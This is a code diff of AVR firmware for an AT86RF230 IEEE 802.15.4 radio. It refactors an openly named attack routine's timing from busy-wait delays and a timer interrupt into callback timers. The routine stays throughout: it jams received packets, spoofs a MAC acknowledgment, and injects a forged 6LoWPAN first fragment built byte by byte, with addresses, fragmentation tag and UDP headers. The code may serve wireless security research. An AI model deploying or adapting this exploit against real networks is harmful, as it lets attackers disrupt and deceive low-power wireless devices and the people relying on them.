@@ -10,12 +10,10 @@
  * (at your option) any later version.
  */
 
+#include <stddef.h>
 #include <stdbool.h>
 #include <stdint.h>
 
-#include <avr/io.h>
-#include <avr/interrupt.h>
-
 #define F_CPU 8000000UL
 #include <util/delay.h>
 
@@ -23,43 +21,94 @@
 #include "spi.h"
 #include "board.h"
 #include "attack.h"
-#include "attack_17.h"
+#include "timer.h"
+#include "period.h"
 
 
+static struct timer wait;
+static uint8_t mac_seq_num = 0;
 static bool timer_started = 0;
-static bool idle_period = 1;
-static bool wait_period = 0;
-static uint8_t ticks_per_8ms = 0;
-static uint32_t elapsed_seconds = 0;
-static uint32_t last_activity = 0;
 
 static uint16_t datagram_tag = DATAGRAMTAG;
 
 
-void start_timer(void)
+/* Continue once the spoofed MAC acknowledgment has been transmitted */
+
+static void spoof_frame(void *user)
+{
+	/* Spoof a first fragment */
+	spi_begin();
+	spi_send(AT86RF230_BUF_WRITE);
+	spi_send(124);  /* MPDU Length */
+	spi_send(0x71);  /* Frame Control */
+	spi_send(0xdc);
+	spi_send(0xff);  /* MAC Sequence Number */
+	spi_send(PANID & 0xff);  /* Destination PAN ID */
+	spi_send((PANID >> 8) & 0xff);
+	spi_send(EXTENDEDDSTADDR & 0xff);  /* MAC Destination Address */
+	spi_send((EXTENDEDDSTADDR >> 8) & 0xff);
+	spi_send((EXTENDEDDSTADDR >> 16) & 0xff);
+	spi_send((EXTENDEDDSTADDR >> 24) & 0xff);
+	spi_send((EXTENDEDDSTADDR >> 32) & 0xff);
+	spi_send((EXTENDEDDSTADDR >> 40) & 0xff);
+	spi_send((EXTENDEDDSTADDR >> 48) & 0xff);
+	spi_send((EXTENDEDDSTADDR >> 56) & 0xff);
+	spi_send(EXTENDEDSRCADDR & 0xff);  /* MAC Source Address */
+	spi_send((EXTENDEDSRCADDR >> 8) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 16) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 24) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 32) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 40) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 48) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 56) & 0xff);
+	spi_send(0xc2);  /* Fragmentation Header */
+	spi_send(0xc8);
+	spi_send((datagram_tag >> 8) & 0xff);
+	spi_send(datagram_tag & 0xff);
+	spi_send(0x7f);  /* IPHC Header */
+	spi_send(0x33);
+	spi_send(0xf0);  /* NHC UDP Header */
+	spi_send(0x4d);  /* Source Port */
+	spi_send(0x4c);
+	spi_send(0x4d);  /* Destination Port */
+	spi_send(0x4c);
+	spi_send(0xb0);  /* UDP Checksum */
+	spi_send(0x00);
+	spi_end();
+
+	/* Transition into the BUSY_TX state */
+	slp_tr();
+
+	/* Update the value of the datagram tag */
+	if (datagram_tag == 0xffff) {
+		datagram_tag = 0x0000;
+	} else {
+		datagram_tag++;
+	}
+
+	/* Transition into the RX_ON state */
+	change_state(TRX_CMD_RX_ON);
+}
+
+
+/* Continue once the jamming packet has been transmitted */
+
+static void spoof_ack(void *user)
 {
-	/* Reset the number of 8-millisecond ticks */
-	ticks_per_8ms = 0;
-
-	/* Reset the elapsed seconds counter */
-	elapsed_seconds = 0;
-
-	/*
-	 * Reset the Counter Register of timer 0
-	 * and its Output Compare Register A
-	 */
-	TCNT0 = 0;
-	OCR0A = 250;
-
-	/*
-	 * Configure timer 0 to operate in CTC mode
-	 * with a prescale factor of 256
-	 */
-	TCCR0A = 1 << WGM01;
-	TCCR0B = 1 << CS02;
-
-	/* Enable the Output Compare Match A interrupt */
-	TIMSK0 = 1 << OCIE0A;
+	/* Spoof a MAC acknowledgment */
+	spi_begin();
+	spi_send(AT86RF230_BUF_WRITE);
+	spi_send(5);
+	spi_send(0x12);
+	spi_send(0x00);
+	spi_send(mac_seq_num);
+	spi_end();
+
+	/* Transition into the BUSY_TX state */
+	slp_tr_more();
+
+	/* Wait for the transmission of the spoofed first fragment */
+	timer_start(&wait, TIMER_US(560), 0, spoof_frame, NULL);
 }
 
 
@@ -75,7 +124,6 @@ void start_timer(void)
 bool attack(void)
 {
 	uint8_t rx_byte = 0;
-	uint8_t mac_seq_num = 0;
 
 	/* Read the received packet as soon as possible */
 	spi_begin();
@@ -85,7 +133,7 @@ bool attack(void)
 	if (!timer_started) {
 		/* Start the timer and ignore the received packet */
 		timer_started = 1;
-		start_timer();
+		period_start(ACTIVESEC, IDLESEC);
 		spi_end();
 		return 1;
 	}
@@ -172,40 +220,9 @@ bool attack(void)
 	}
 
 	/* Determine whether to proceed or not */
-	if (idle_period) {
-		/* Do not proceed during an idle period */
+	if (!period_proceed()) {
 		spi_end();
 		return 1;
-	} else if (wait_period) {
-		/* Reset the number of 8-millisecond ticks */
-		ticks_per_8ms = 0;
-
-		/* Reset the elapsed seconds counter */
-		elapsed_seconds = 0;
-
-		/* Reset the relative time of the last activity */
-		last_activity = 0;
-
-		/* Check the duration of the active period */
-		if (ACTIVESEC > 0) {
-			/* Indicate that the active period began */
-			wait_period = 0;
-		} else {
-			/* Do not proceed if there is no active period */
-			spi_end();
-			return 1;
-		}
-	}
-
-	/* Check whether a period of inactivity passed or not */
-	if (elapsed_seconds - last_activity > IDLESEC) {
-		/* Restart the active period */
-		ticks_per_8ms = 0;
-		elapsed_seconds = 0;
-		last_activity = 0;
-	} else {
-		/* Update the relative time of the last activity */
-		last_activity = elapsed_seconds;
 	}
 
 	/* Stop receiving and transition into the PLL_ON state */
@@ -225,126 +242,10 @@ bool attack(void)
 	spi_end();
 
 	/* Transition into the BUSY_TX state */
-	slp_tr();
+	slp_tr_more();
 
 	/* Wait for the transmission of the spoofed MAC acknowledgment */
-	_delay_us(752);
-
-	/* Spoof a MAC acknowledgment */
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	spi_send(5);
-	spi_send(0x12);
-	spi_send(0x00);
-	spi_send(mac_seq_num);
-	spi_end();
-
-	/* Transition into the BUSY_TX state */
-	slp_tr();
-
-	/* Wait for the transmission of the spoofed first fragment */
-	_delay_us(560);
-
-	/* Spoof a first fragment */
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	spi_send(124);  /* MPDU Length */
-	spi_send(0x71);  /* Frame Control */
-	spi_send(0xdc);
-	spi_send(0xff);  /* MAC Sequence Number */
-	spi_send(PANID & 0xff);  /* Destination PAN ID */
-	spi_send((PANID >> 8) & 0xff);
-	spi_send(EXTENDEDDSTADDR & 0xff);  /* MAC Destination Address */
-	spi_send((EXTENDEDDSTADDR >> 8) & 0xff);
-	spi_send((EXTENDEDDSTADDR >> 16) & 0xff);
-	spi_send((EXTENDEDDSTADDR >> 24) & 0xff);
-	spi_send((EXTENDEDDSTADDR >> 32) & 0xff);
-	spi_send((EXTENDEDDSTADDR >> 40) & 0xff);
-	spi_send((EXTENDEDDSTADDR >> 48) & 0xff);
-	spi_send((EXTENDEDDSTADDR >> 56) & 0xff);
-	spi_send(EXTENDEDSRCADDR & 0xff);  /* MAC Source Address */
-	spi_send((EXTENDEDSRCADDR >> 8) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 16) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 24) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 32) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 40) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 48) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 56) & 0xff);
-	spi_send(0xc2);  /* Fragmentation Header */
-	spi_send(0xc8);
-	spi_send((datagram_tag >> 8) & 0xff);
-	spi_send(datagram_tag & 0xff);
-	spi_send(0x7f);  /* IPHC Header */
-	spi_send(0x33);
-	spi_send(0xf0);  /* NHC UDP Header */
-	spi_send(0x4d);  /* Source Port */
-	spi_send(0x4c);
-	spi_send(0x4d);  /* Destination Port */
-	spi_send(0x4c);
-	spi_send(0xb0);  /* UDP Checksum */
-	spi_send(0x00);
-	spi_end();
-
-	/* Transition into the BUSY_TX state */
-	slp_tr();
-
-	/* Update the value of the datagram tag */
-	if (datagram_tag == 0xffff) {
-		datagram_tag = 0x0000;
-	} else {
-		datagram_tag++;
-	}
-
-	/* Transition into the RX_ON state */
-	change_state(TRX_CMD_RX_ON);
+	timer_start(&wait, TIMER_US(752), 0, spoof_ack, NULL);
 
 	return 1;
 }
-
-
-ISR(TIMER0_COMPA_vect)
-{
-	/* Update the number of 8-millisecond ticks */
-	ticks_per_8ms++;
-
-	/* Check whether a second has passed */
-	if (ticks_per_8ms == 125) {
-		/* Reset the number of 8-millisecond ticks */
-		ticks_per_8ms = 0;
-
-		/* Update the elapsed seconds counter */
-		elapsed_seconds++;
-
-		/* Check for potential period transitions */
-		if (idle_period) {
-			/* Determine whether the idle period ended or not */
-			if (elapsed_seconds >= IDLESEC) {
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Indicate that the wait period began */
-				idle_period = 0;
-				wait_period = 1;
-			}
-		} else if (!wait_period) {
-			/* Determine whether the active period ended or not */
-			if (elapsed_seconds - last_activity > IDLESEC) {
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Restart the wait period */
-				wait_period = 1;
-			} else if (elapsed_seconds >= ACTIVESEC) {
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Check the duration of the idle period */
-				if (IDLESEC > 0) {
-					/* Indicate that the idle period began */
-					idle_period = 1;
-					wait_period = 0;
-				}
-			}
-		}
-	}
-}